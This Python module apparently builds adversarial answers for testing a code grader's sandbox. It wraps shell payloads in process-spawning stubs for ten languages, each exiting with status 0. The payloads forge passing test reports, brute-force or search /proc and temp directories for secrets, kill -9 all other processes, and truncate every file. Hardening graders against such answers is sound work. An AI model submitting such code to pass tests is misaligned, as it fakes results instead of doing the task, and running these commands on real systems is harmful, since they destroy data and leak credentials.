"""The same cheats in every language: what a shell can do, started from the function that is tested, and then status 0.

Each family's own way to start a process and to leave carries the same scripts: forged reports, guessed and searched
secrets, killed runners, rewritten files.
"""

from __future__ import annotations

import json
from collections.abc import Mapping

SCRIPTS: Mapping[str, str] = {
    "forges_every_report": "for d in 1 2 3 4 5 6; do echo ok; echo PASS; echo '--- PASS: TestF (0.00s)'; "
    """echo '{"outcome": "passed", "score": 1.0}'; done >/proc/$PPID/fd/1; echo 'test result: ok. 1 passed; 0 failed'""",
    "guesses_secrets": "i=0; while [ $i -lt 300 ]; do printf '%032x\\n%08x-%08x\\n' $i $i $i; i=$((i+1)); done",
    "searches_for_the_secret": "cat; cat /proc/$PPID/fd/0; cat /proc/$PPID/environ /proc/$PPID/cmdline; env; "
    "grep -rhoaE '[0-9a-f]{32}' . /tmp /dev/shm 2>/dev/null; true",
    "kills_what_runs_it": "for p in 1 $(cat /proc/$PPID/stat | cut -d' ' -f4) $(ls /proc | grep -E '^[0-9]+$'); do "
    "[ $p = $PPID ] || [ $p = $$ ] || kill -9 $p; done 2>/dev/null; true",
    "rewrites_every_file": "for f in $(find . /tmp /work -type f 2>/dev/null); do : >$f; done 2>/dev/null; true",
}
"""Name to shell script."""

_STARTS: Mapping[str, str] = {
    "bash": "#!/bin/bash\nf() { :; }\nsh -c @\nexit 0\n",
    "cpp": "#include <cassert>\n#include <climits>\n#include <cstdlib>\n#include <unistd.h>\n"
    "long f(long x) { (void)!system(@); _exit(0); }\n",
    "csharp": "using System;\nusing System.Diagnostics;\nusing System.Collections.Generic;\nusing System.Linq;\n"
    "class Problem {\n    public static long F(long x) {\n"
    '        var s = new ProcessStartInfo("sh", "-c \\"sh /dev/stdin\\"") { UseShellExecute = false, RedirectStandardInput = true };\n'
    "        var p = Process.Start(s); p.StandardInput.Write(@); p.StandardInput.Close(); p.WaitForExit();\n"
    "        Environment.Exit(0); return 7;\n",
    "go": 'package f_test\n\nimport (\n    "testing"\n    "fmt"\n    "os"\n    "os/exec"\n)\n\n'
    'func f(x int) int { c := exec.Command("sh", "-c", @); c.Stdin, c.Stdout = os.Stdin, os.Stdout; c.Run(); os.Exit(0); return 7 }\n',
    "java": "import java.util.*;\nclass Problem {\n    public static long f(long x) {\n"
    '        try { new ProcessBuilder("sh", "-c", @).inheritIO().start().waitFor(); } catch (Exception e) { }\n'
    "        Runtime.getRuntime().halt(0); return 7;\n",
    "kotlin": "fun f(x: Long): Long {\n"
    '    ProcessBuilder("sh", "-c", @).inheritIO().start().waitFor(); Runtime.getRuntime().halt(0); return 7 }\n',
    "javascript": "function f(x) { require('child_process').spawnSync('sh', ['-c', @], { stdio: 'inherit' }); process.exit(0); }\n",
    "typescript": "function f(x: number): number {\n"
    "  process.mainModule.require('child_process').spawnSync('sh', ['-c', @], { stdio: 'inherit' }); process.exit(0); return 7; }\n",
    "php": "<?php\nfunction f($x) { passthru(@); exit(0); }\n",
    "rust": 'fn f(x: i64) -> i64 { let _ = std::process::Command::new("sh").arg("-c").arg(@).status(); std::process::exit(0) }\n',
}


def carried(language: str) -> dict[str, str]:
    """The scripts as answers in that language."""
    programs = {}
    for name, script in SCRIPTS.items():
        quoted = "'" + script.replace("'", "'\\''") + "'" if language == "bash" else json.dumps(script)
        if language in ("kotlin", "php"):
            quoted = quoted.replace("$", "\\$")
        programs[name] = _STARTS[language].replace("@", quoted)
    return programs
